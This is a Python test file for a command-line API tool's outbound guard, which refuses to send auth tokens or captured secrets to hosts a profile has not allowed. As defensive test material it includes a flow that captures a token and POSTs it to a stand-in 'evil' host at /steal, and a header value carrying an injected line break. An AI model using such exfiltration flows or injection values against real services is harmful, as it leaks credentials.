"""The outbound guard (issue 10): no secret leaves for a host the profile does not allow.

Covers: a secret in any encoding, anywhere in the request, `auth: none` included (refused before a
byte goes out, exit 2, one sentence naming the host and the source, never the value); a plain capture
of a known secret becomes a secret; redirects; proxies (loopback never proxied, a credentialed
plain-http request through an unallowed proxy refused); URL and header validation with value-free
errors; the IPv6 host hint. Peers are the sandbox on loopback and raw recording peers on 127.0.0.1.
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest

import twibench.cli as top
from tests.security.rawpeer import RawPeer, raw_peer
from twibench import proxies, secret_forms
from twibench.client import RequestBuildError, prepare, values_for
from twibench.collection import Auth, Request
from twibench.hostguard import check_host
from twibench.outbound import Guard, SecretRefusedError, secrets_in_play
from twibench.profiles import HostRefusedError, Profile, SecretRef
from twibench.sandbox import credentials as cred

AC = "AC0123456789abcdef0123456789abcdef"
TOKEN = "s3cr3t/T0ken+with spaces&more=0123"
KEY_SECRET = "HER70pfueejDU9dBCXqD9crF0f2jTRZW"


def live(**kwargs: object) -> Profile:
    return Profile("live", "auth_token", AC, AC, SecretRef(literal=TOKEN), **kwargs)  # type: ignore[arg-type]


def outbound(**fields: object) -> Request:
    base = {"name": "Post it", "id": "post", "method": "POST", "url": "http://127.0.0.1:9/steal", "auth": Auth("none")}
    base.update(fields)
    return Request(**base)  # type: ignore[arg-type]


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


ENCODINGS = {
    "clear": lambda s: s,
    "percent upper": lambda s: quote(s, safe=""),
    "percent lower": lambda s: re.sub(r"%[0-9A-F]{2}", lambda m: m.group(0).lower(), quote(s, safe="")),
    "plus for spaces": lambda s: quote_plus(s, safe=""),
    "base64 padded": b64,
    "base64 unpadded": lambda s: b64(s).rstrip("="),
    "base64 url-safe": lambda s: base64.urlsafe_b64encode(s.encode()).decode(),
    "base64 inside user:secret": lambda s: b64(f"{AC}:{s}"),
    "hex": lambda s: s.encode().hex(),
    "hex upper": lambda s: s.encode().hex().upper(),
    "json escaped": lambda s: json.dumps(s)[1:-1].replace("/", "\\/"),
}
PLACES = {
    "form": lambda: {"form": [("v", "{{v}}")]},
    "query": lambda: {"params": [("v", "{{v}}")]},
    "path": lambda: {"url": "http://127.0.0.1:9/steal/{{v}}"},
    "header": lambda: {"headers": [("X-Data", "{{v}}")]},
    "json": lambda: {"json": {"nested": ["{{v}}"]}},
    "raw body": lambda: {"body": "data={{v}}", "headers": [("Content-Type", "text/plain")]},
}


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("place", PLACES)
def test_the_profile_secret_in_any_encoding_anywhere_is_refused(encoding: str, place: str) -> None:
    value = ENCODINGS[encoding](TOKEN)
    profile = live()
    with pytest.raises((SecretRefusedError, RequestBuildError)) as caught:
        prepare(outbound(**PLACES[place]()), profile, values_for(profile, overrides={"v": value}))
    message = str(caught.value)
    if " " in value and place == "path":  # a space cannot be in a URL: refused as bad input first
        assert message == "request 'Post it': the url contains a space; nothing was sent"
    else:
        assert isinstance(caught.value, SecretRefusedError)
        assert message.startswith("refusing to send request 'Post it' to 127.0.0.1:9: it carries the Auth Token")
        assert "(in {{v}})" in message and "\n" not in message
    assert TOKEN not in message and value not in message


def test_a_captured_secret_and_the_sandbox_tokens_are_guarded_too() -> None:
    profile = live()
    values = values_for(profile, captured={"key_secret": KEY_SECRET})
    with pytest.raises(SecretRefusedError, match=r"it carries the captured secret \{\{key_secret\}\}"):
        prepare(outbound(form=[("k", "{{key_secret}}")]), profile, values, secret_names=["key_secret"])
    for token, label in ((cred.AUTH_TOKEN, "the sandbox's Auth Token"), (cred.TEST_AUTH_TOKEN, "Test Auth Token")):
        with pytest.raises(SecretRefusedError, match=re.escape(label)):
            prepare(outbound(form=[("t", "{{t}}")]), profile, values_for(profile, overrides={"t": token}))


def test_clean_requests_and_allowed_hosts_still_go() -> None:
    profile = live(allowed_hosts=["127.0.0.1:9"])
    prepared = prepare(outbound(form=[("v", "{{v}}")]), live(), values_for(live(), overrides={"v": "harmless"}))
    assert prepared.body == b"v=harmless"
    prepared = prepare(outbound(form=[("v", "{{v}}")]), profile, values_for(profile, overrides={"v": TOKEN}))
    assert prepared.credentials is None  # an allowed host may receive it
    # A short capture_secret value is not searched for (it would match unrelated text).
    prepare(outbound(form=[("v", "ok")]), live(), values_for(live(), captured={"k": "1"}), secret_names=["k"])


def test_the_forms_cover_every_alignment_of_base64() -> None:
    forms = secret_forms.forms(KEY_SECRET)
    for prefix in ("", "a", "ab", "abc"):
        encoded = b64(prefix + KEY_SECRET + "tail")
        assert any(form in encoded for form in forms), prefix
    assert secret_forms.forms("short") == frozenset()
    guard = Guard(live(), secrets_in_play(live(), {}))
    assert guard.find("http://h/", [("Authorization", "Basic " + b64(f"{AC}:{TOKEN}"))], b"") is not None
    assert guard.find("http://h/?q=" + quote(quote(TOKEN, safe=""), safe=""), [], b"") is not None  # twice encoded
    assert guard.find("http://h/?q=nothing", [("X", "y")], b"z=1") is None


# --- end to end: `twibench run` against the sandbox, the unlisted host a raw peer -------------------


@pytest.fixture
def evil() -> Iterator[RawPeer]:
    with raw_peer() as peer:
        yield peer


@pytest.fixture(autouse=True)
def no_proxy_from_the_machine(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY", "REQUEST_METHOD"):
        monkeypatch.delenv(name, raising=False)
        monkeypatch.delenv(name.lower(), raising=False)


@pytest.fixture
def sandbox_home(home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("TWIBENCH_SANDBOX_DETERMINISTIC", "1")
    return home


LEAK = """\
name: Leak
requests:
  - name: Account
    id: account
    url: /2010-04-01/Accounts/{{{{account_sid}}}}.json
    capture: {{t: $.auth_token}}
  - name: Post it
    id: post
    method: POST
    url: {evil}/steal
    auth: none
    form: {{v: "{{{{t}}}}"}}
  - name: Still runs
    id: after
    url: /2010-04-01/Accounts/{{{{account_sid}}}}.json
"""


def test_the_issue_repro_is_refused_and_the_host_gets_nothing(
    sandbox_home: Path, evil: RawPeer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    flow = tmp_path / "leak.yaml"
    flow.write_text(LEAK.format(evil=evil.base_url))
    report = tmp_path / "report.json"
    assert top.main(["run", str(flow), "--report", f"json:{report}"]) == 2
    out = capsys.readouterr().out
    assert evil.received == []  # not a connection, not a byte
    assert (
        "FAIL  POST    --- NOT SENT" in out
        and f"refusing to send request 'Post it' to {evil.netloc}: it carries the Auth Token of profile 'sandbox' "
        "(in {{t}}), and profile 'sandbox' does not allow that host; nothing was sent"
        in out
    )
    assert re.search(r"PASS  GET     200 OK .* Still runs \(after\)", out)  # the run went on
    assert "2 passed, 1 refused" in out
    entries = json.loads(report.read_text())
    assert [e["checks"]["outcome"] for e in entries] == ["passed", "error", "passed"]
    assert entries[0]["checks"]["captured"] == {"t": "••••"}  # promoted: a plain capture of a secret
    assert cred.AUTH_TOKEN not in report.read_text() + out


def test_a_captured_secret_in_a_url_port_never_shows_in_the_error(
    sandbox_home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    flow = tmp_path / "port.yaml"
    flow.write_text(
        "name: Port\nrequests:\n"
        "  - {name: Key, id: key, method: POST, url: '/2010-04-01/Accounts/{{account_sid}}/Keys.json',"
        " form: {FriendlyName: k}, capture_secret: {key_secret: $.secret}}\n"
        "  - {name: Port, id: port, url: 'http://127.0.0.1:{{key_secret}}/', auth: none}\n"
    )
    assert top.main(["run", str(flow)]) == 2
    captured = capsys.readouterr()
    assert "request 'Port': the url has a port that is not a number from 1 to 65535; nothing was sent" in captured.out
    assert "unexpected error" not in captured.err and "ValueError" not in captured.out + captured.err


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("https://evil.example:80.twilio.com/", "has a port that is not a number from 1 to 65535"),
        ("http://127.0.0.1:99999/", "has a port that is not a number from 1 to 65535"),
        ("http://127.0.0.1:9/a\tb", "contains a tab"),
        ("https://evil.example\uff0f.twilio.com/", "has a host that is not a valid host name or IP address"),
        (
            "https://user:{{v}}@api.twilio.com/",
            "has a user:password@ part (credentials come from the profile or `auth:`)",
        ),
        ("http://[::1/", "has a host that is not a valid host name or IP address"),
        ("http://[::g]:80/", "has a host that is not a valid host name or IP address"),
        ("http:///path", "has no host"),
    ],
)
def test_bad_urls_are_one_clean_sentence_with_exit_2(
    sandbox_home: Path, tmp_path: Path, url: str, reason: str, capsys: pytest.CaptureFixture[str]
) -> None:
    flow = tmp_path / "bad.yaml"
    flow.write_text(json.dumps({"name": "Bad", "requests": [{"name": "Bad", "url": url, "auth": "none"}]}))
    assert top.main(["send", f"{flow}#bad", "--var", f"v={KEY_SECRET}", "--no-history"]) == 2
    err = capsys.readouterr().err
    assert err == f"twibench: request 'Bad': the url {reason}; nothing was sent\n"
    assert KEY_SECRET not in err


def test_a_header_with_a_line_break_is_refused_without_its_value() -> None:
    profile = live()
    values = values_for(profile, overrides={"v": f"{KEY_SECRET}\r\nX-Evil: 1"})
    with pytest.raises(RequestBuildError) as caught:
        prepare(outbound(headers=[("X-Data", "{{v}}")]), profile, values)
    assert str(caught.value) == "request 'Post it': header 'X-Data' contains a carriage return; nothing was sent"


def test_a_redirect_to_an_invalid_port_is_a_transport_failure(
    sandbox_home: Path, evil: RawPeer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    evil.redirect_to("http://127.0.0.1:99999/", status=302)
    flow = tmp_path / "redir.yaml"
    flow.write_text(
        f"name: R\nrequests:\n  - {{name: Hop, id: hop, url: '{evil.base_url}/r', auth: none,"
        " follow_redirects: true}\n"
        "  - {name: Next, id: next, url: '/2010-04-01/Accounts/{{account_sid}}.json'}\n"
    )
    assert top.main(["send", f"{flow}#hop", "--no-history"]) == 3
    assert f"{evil.netloc} redirected to a URL that has a port that is not a number" in capsys.readouterr().err
    assert top.main(["run", str(flow), "--no-history"]) == 3
    out = capsys.readouterr().out
    assert "--- REDIRECTS" in out and "1 passed, 1 failed (1 transport failure)" in out


def test_a_redirect_never_carries_a_secret_to_an_unallowed_host(
    home: Path, evil: RawPeer, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    with raw_peer() as hop:
        hop.redirect_to(f"{evil.base_url}/next", status=307)  # 307 keeps the method and the body
        (home / "profiles.yaml").write_text(
            f"profiles:\n  mine:\n    account_sid: {AC}\n    auth_token: {{env: MINE}}\n"
            f"    allowed_hosts: ['{hop.netloc}']\n"
        )
        flow = tmp_path / "hop.yaml"
        flow.write_text(
            f"name: H\nrequests:\n  - name: Hop\n    method: POST\n    url: {hop.base_url}/first\n"
            "    follow_redirects: true\n    form: {echo: '{{tok}}'}\n"
        )
        env_token = "e7e7e7e7e7e7e7e7e7e7e7e7e7e7e7e7"
        monkeypatch.setenv("MINE", env_token)
        code = top.main(["send", f"{flow}#hop", "--profile", "mine", "--var", f"tok={env_token}", "--no-history"])
        assert code == 3
        assert len(hop.received) == 1 and evil.received == []
        err = capsys.readouterr().err
        assert f"the redirect from {hop.netloc} to {evil.netloc}" in err and "not followed" in err
        assert env_token not in err


# --- proxies -------------------------------------------------------------------------------------


def test_loopback_never_goes_through_a_proxy_and_no_proxy_is_honoured(monkeypatch: pytest.MonkeyPatch) -> None:
    env = {"HTTP_PROXY": "http://proxy.test:3128", "https_proxy": "proxy.test:3129"}
    for url in (
        "http://127.0.0.1:7357/x",
        "http://127.9.8.7/",
        "http://[::1]:80/",
        "http://localhost/",
        "http://a.localhost/",
    ):
        assert proxies.proxy_for(url, env) is None, url
    assert proxies.proxy_for("http://api.example.test/", env) == "http://proxy.test:3128"
    assert proxies.proxy_for("https://api.twilio.com/", env) == "http://proxy.test:3129"
    for no_proxy in ("*", ".example.test", "example.test", "api.example.test:80", "10.0.0.0/8,example.test"):
        assert proxies.proxy_for("http://api.example.test/", {**env, "NO_PROXY": no_proxy}) is None, no_proxy
    assert proxies.proxy_for("http://10.1.2.3/", {**env, "no_proxy": "10.0.0.0/8"}) is None
    assert proxies.proxy_for("http://api.example.test:8080/", {**env, "NO_PROXY": "api.example.test:80"})
    assert proxies.proxy_for("http://api.example.test/", {**env, "http_proxy": "http://lower:1"}) == "http://lower:1"
    assert proxies.proxy_for("http://api.example.test/", {**env, "REQUEST_METHOD": "GET"}) is None  # httpoxy


def test_the_sandbox_ignores_http_proxy(
    sandbox_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    with raw_peer() as proxy:
        monkeypatch.setenv("HTTP_PROXY", proxy.base_url)
        monkeypatch.setenv("ALL_PROXY", proxy.base_url)
        flow = tmp_path / "acct.yaml"
        flow.write_text(
            "name: A\nrequests:\n  - {name: Acct, id: acct, url: '/2010-04-01/Accounts/{{account_sid}}.json'}\n"
        )
        assert top.main(["run", str(flow), "--no-history"]) == 0
        assert proxy.received == []


def _proxied_profile(home: Path, proxy: RawPeer, allow_proxy: bool) -> None:
    allowed = f"\n    allowed_hosts: ['{proxy.netloc}']" if allow_proxy else ""
    (home / "profiles.yaml").write_text(
        f"profiles:\n  remote:\n    account_sid: {AC}\n    auth_token: {{env: REMOTE_TOKEN}}\n"
        f"    base_url: http://api.example.test{allowed}\n"
    )


def test_credentials_over_plain_http_through_an_unallowed_proxy_are_refused(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("REMOTE_TOKEN", KEY_SECRET)
    flow = tmp_path / "acct.yaml"
    flow.write_text(
        "name: A\nrequests:\n  - {name: Acct, id: acct, url: '/2010-04-01/Accounts/{{account_sid}}.json'}\n"
    )
    with raw_peer() as proxy:
        monkeypatch.setenv("HTTP_PROXY", proxy.base_url)
        _proxied_profile(home, proxy, allow_proxy=False)
        assert top.main(["send", f"{flow}#acct", "--profile", "remote", "--no-history"]) == 2
        err = capsys.readouterr().err
        assert err.startswith(
            f"twibench: refusing to send request 'Acct' over plain http through the proxy {proxy.netloc}"
        )
        assert "($HTTP_PROXY)" in err and len(err.splitlines()) == 1 and KEY_SECRET not in err
        assert proxy.received == []
        # Once the profile allows the proxy, the request goes through it, credentials and all.
        _proxied_profile(home, proxy, allow_proxy=True)
        assert top.main(["send", f"{flow}#acct", "--profile", "remote", "--no-history"]) == 0
        (seen,) = proxy.received
        assert seen.startswith(f"GET http://api.example.test/2010-04-01/Accounts/{AC}.json HTTP/1.1".encode())
        assert b"Authorization: Basic " in seen.replace(b"authorization", b"Authorization")


def test_the_ipv6_host_hint_has_brackets() -> None:
    with pytest.raises(HostRefusedError) as caught:
        check_host(live(), "http://[::1]:8080/x")
    assert "to [::1]:8080:" in str(caught.value) and "add '[::1]:8080' to allowed_hosts" in str(caught.value)
    check_host(live(allowed_hosts=["[::1]:8080"]), "http://[::1]:8080/x")


def test_an_unexpected_error_never_prints_its_text(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def boom(args: object) -> int:
        raise ValueError(f"Port could not be cast to integer value as '{KEY_SECRET}'")

    monkeypatch.setattr("twibench.cli.locate.main", boom)
    assert top.main(["locate"]) == 1
    err = capsys.readouterr().err
    assert "unexpected error: ValueError" in err and KEY_SECRET not in err


async def test_the_tui_session_guards_its_captured_secrets(home: Path, evil: RawPeer, tmp_path: Path) -> None:
    from twibench.profiles import load_profiles
    from twibench.runner.capture import Captured
    from twibench.workbench.session import Session
    from twibench.workbench.workspace import Workspace

    flow = tmp_path / "tui.yaml"
    flow.write_text(
        f"name: T\nrequests:\n  - {{name: Post it, url: '{evil.base_url}/x', auth: none, params: {{k: '{{{{k}}}}'}}}}\n"
    )
    workspace = Workspace()
    workspace.load([flow])
    session = Session(workspace, load_profiles(home / "profiles.yaml"))
    session.variables.remember([Captured("k", KEY_SECRET, secret=True, source="tui.yaml#post-it")])
    entry = workspace.first()
    assert entry is not None
    try:
        with pytest.raises(SecretRefusedError, match=r"the captured secret \{\{k\}\}"):
            await session.send(entry)
    finally:
        await session.aclose()
    assert evil.received == []
